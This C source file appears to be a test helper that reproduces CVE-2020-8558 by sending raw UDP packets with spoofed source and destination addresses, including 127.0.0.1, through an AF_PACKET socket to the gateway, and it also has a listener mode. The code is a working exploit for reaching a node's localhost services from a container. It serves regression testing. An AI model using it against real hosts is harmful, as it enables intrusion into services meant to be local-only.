/* An attacker's frame: one UDP datagram in an IPv4 packet with any source
 * and destination (127.0.0.1 included), written with AF_PACKET straight to
 * the gateway's MAC, as a container with CAP_NET_RAW can (CVE-2020-8558).
 * The container's own routing never sees it, so its loopback does not
 * catch 127.0.0.1.
 *
 *   localnet-probe IFACE GATEWAY_IP SRC_IP DST_IP DST_PORT PAYLOAD
 *   localnet-probe listen PORT     (the target: prints "got PAYLOAD" for each
 *                                   datagram on UDP PORT, forever)
 *
 * The gateway's MAC comes from /proc/net/arp (ping the gateway first).
 * Prints "sent" or the failing step and its errno. Built statically by the
 * tests (cc -static). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int fail(const char *what) {
    printf("%s %s\n", what, strerrorname_np(errno));
    return 1;
}

static int gateway_mac(const char *gw, unsigned char mac[6]) {
    FILE *f = fopen("/proc/net/arp", "r");
    if (!f) return -1;
    char line[256], ip[64], hw[64];
    unsigned flags;
    while (fgets(line, sizeof line, f)) {
        /* Flags 0x2: a complete entry (an incomplete one has a zero MAC). */
        if (sscanf(line, "%63s %*s %x %63s", ip, &flags, hw) == 3 && !strcmp(ip, gw) && (flags & 2) &&
            sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
                   &mac[4], &mac[5]) == 6) {
            fclose(f);
            return 0;
        }
    }
    fclose(f);
    errno = ENOENT;
    return -1;
}

static unsigned short checksum(const void *data, size_t len) {
    const unsigned short *p = data;
    unsigned long sum = 0;
    for (; len > 1; len -= 2) sum += *p++;
    if (len) sum += *(const unsigned char *)p;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

static int listen_udp(const char *port) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0) return fail("socket");
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons((unsigned short)atoi(port));
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0) return fail("bind");
    printf("listening\n");
    fflush(stdout);
    char buf[1501];
    for (;;) {
        ssize_t n = recv(s, buf, sizeof buf - 1, 0);
        if (n < 0) return fail("recv");
        buf[n] = 0;
        printf("got %s\n", buf);
        fflush(stdout);
    }
}

int main(int argc, char **argv) {
    if (argc == 3 && !strcmp(argv[1], "listen")) return listen_udp(argv[2]);
    if (argc != 7) {
        fprintf(stderr, "usage: %s IFACE GATEWAY_IP SRC_IP DST_IP DST_PORT PAYLOAD\n", argv[0]);
        return 2;
    }
    unsigned char mac[6];
    if (gateway_mac(argv[2], mac)) return fail("arp");
    const char *payload = argv[6];
    size_t plen = strlen(payload);
    unsigned char pkt[1500];
    if (sizeof(struct iphdr) + sizeof(struct udphdr) + plen > sizeof pkt) return 2;
    memset(pkt, 0, sizeof pkt);
    struct iphdr *ip = (struct iphdr *)pkt;
    struct udphdr *udp = (struct udphdr *)(pkt + sizeof *ip);
    memcpy(pkt + sizeof *ip + sizeof *udp, payload, plen);
    size_t total = sizeof *ip + sizeof *udp + plen;
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons((unsigned short)total);
    ip->id = htons((unsigned short)getpid());
    if (inet_pton(AF_INET, argv[3], &ip->saddr) != 1 || inet_pton(AF_INET, argv[4], &ip->daddr) != 1) {
        errno = EINVAL;
        return fail("address");
    }
    ip->check = checksum(ip, sizeof *ip);
    udp->source = htons(40000);
    udp->dest = htons((unsigned short)atoi(argv[5]));
    udp->len = htons((unsigned short)(sizeof *udp + plen));
    udp->check = 0; /* none: allowed for UDP over IPv4 */

    int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    if (s < 0) return fail("socket");
    struct sockaddr_ll to = {0};
    to.sll_family = AF_PACKET;
    to.sll_protocol = htons(ETH_P_IP);
    to.sll_ifindex = (int)if_nametoindex(argv[1]);
    if (!to.sll_ifindex) return fail("interface");
    to.sll_halen = 6;
    memcpy(to.sll_addr, mac, 6);
    for (int i = 0; i < 3; i++)
        if (sendto(s, pkt, total, 0, (struct sockaddr *)&to, sizeof to) < 0) return fail("sendto");
    printf("sent\n");
    return 0;
}
